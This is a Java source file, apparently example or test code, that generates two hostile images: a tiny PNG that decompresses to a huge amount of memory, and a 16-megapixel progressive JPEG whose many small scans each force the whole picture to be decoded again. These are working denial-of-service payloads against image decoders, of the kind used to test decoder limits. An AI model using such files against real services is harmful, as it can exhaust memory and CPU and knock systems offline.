package io.stratagem.examples;

import java.io.BufferedOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/** Small files that follow their formats to the letter and are too much for who decodes them. */
final class HostileImages {
    private static final byte[] NOTHING = {};

    private HostileImages() {}

    // ---------------------------------------------------------------------------------------------- memory

    private static final HexFormat HEX = HexFormat.of();
    private static final byte[] PNG_SIGNATURE = HEX.parseHex("89504e470d0a1a0a");
    private static final byte[] ZLIB_HEADER = HEX.parseHex("78da");
    private static final byte[] LAST_BLOCK = HEX.parseHex("0300");
    private static final int ROWS_PER_STRIP = 100;
    private static final int ADLER_MODULUS = 65_521;

    /**
     * A black PNG, three bytes for each pixel: at a thousandth of the size on disk, a decompression bomb.
     *
     * @param strips each 100 pixels high
     */
    /* Deflate squeezes zeros by 1 to 1,030. A full flush makes each strip independent of those before it, so all strips
     * are the same bytes, and are compressed once. The checksum, Adler-32, of n zeros is 1 and, in the upper half, n.
     */
    static void writeMemoryBomb(Path file, int width, int strips) throws IOException {
        int rowBytes = 1 + 3 * width; // the first byte names the row's filter: none
        byte[] strip = deflate(new byte[ROWS_PER_STRIP * rowBytes]);
        long allBytes = (long) rowBytes * ROWS_PER_STRIP * strips;
        ByteBuffer header = ByteBuffer.allocate(13).putInt(width).putInt(ROWS_PER_STRIP * strips);
        header.put((byte) 8).put((byte) 2); // bits of a sample, and the colour type: RGB
        ByteBuffer checksum = ByteBuffer.allocate(4).putInt((int) (allBytes % ADLER_MODULUS) << 16 | 1);
        try (DataOutputStream out = open(file)) {
            out.write(PNG_SIGNATURE);
            writeChunk(out, "IHDR", header.array());
            writeChunk(out, "IDAT", ZLIB_HEADER);
            for (int i = 0; i < strips; i++) {
                writeChunk(out, "IDAT", strip);
            }
            writeChunk(out, "IDAT", LAST_BLOCK);
            writeChunk(out, "IDAT", checksum.array());
            writeChunk(out, "IEND", NOTHING);
        }
    }

    private static byte[] deflate(byte[] bytes) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        try {
            deflater.setInput(bytes);
            byte[] deflated = new byte[bytes.length + 64];
            int length = deflater.deflate(deflated, 0, deflated.length, Deflater.FULL_FLUSH);
            return Arrays.copyOf(deflated, length);
        } finally {
            deflater.end();
        }
    }

    private static void writeChunk(DataOutputStream out, String type, byte[] contents) throws IOException {
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(contents);
        out.writeInt(contents.length);
        out.write(name);
        out.write(contents);
        out.writeInt((int) crc.getValue());
    }

    // ---------------------------------------------------------------------------------------------- time

    private static final int SIDE = 4096;
    private static final int BLOCKS = (SIDE / 8) * (SIDE / 8);
    private static final int LONGEST_RUN = 1 << 14;

    /**
     * A grey JPEG of 16 megapixels that comes in many scans, as progressive ones do; they say nothing new, but each of
     * them, of 40 bytes, has the whole picture decoded once more, by native code, which heeds no interrupt.
     */
    /* Each Huffman table has one code, a single 0. For the first scan it means: as bright as the block before. For the
     * others: no more coefficients for 2^14 blocks and as many as the next 14 bits say, which are 0.
     */
    static void writeTimeBomb(Path file, int scans) throws IOException {
        try (DataOutputStream out = open(file)) {
            out.write(HEX.parseHex("ffd8" + "ffdb004300" + "01".repeat(64))); // all is quantized by 1
            out.write(HEX.parseHex("ffc2000b08%04x%04x01011100".formatted(SIDE, SIDE)));
            out.write(HEX.parseHex("ffc4001400" + "01" + "00".repeat(15) + "00"));
            out.write(HEX.parseHex("ffc4001410" + "01" + "00".repeat(15) + "e0"));
            writeScan(out, 0, 0, BLOCKS);
            for (int i = 0; i < scans; i++) {
                writeScan(out, 1, 63, BLOCKS / LONGEST_RUN * 15);
            }
            out.write(HEX.parseHex("ffd9"));
        }
    }

    private static void writeScan(DataOutputStream out, int first, int last, int bits) throws IOException {
        out.write(HEX.parseHex("ffda0008010100%02x%02x00".formatted(first, last)));
        out.write(new byte[bits / 8]);
    }

    private static DataOutputStream open(Path file) throws IOException {
        return new DataOutputStream(new BufferedOutputStream(Files.newOutputStream(file)));
    }
}
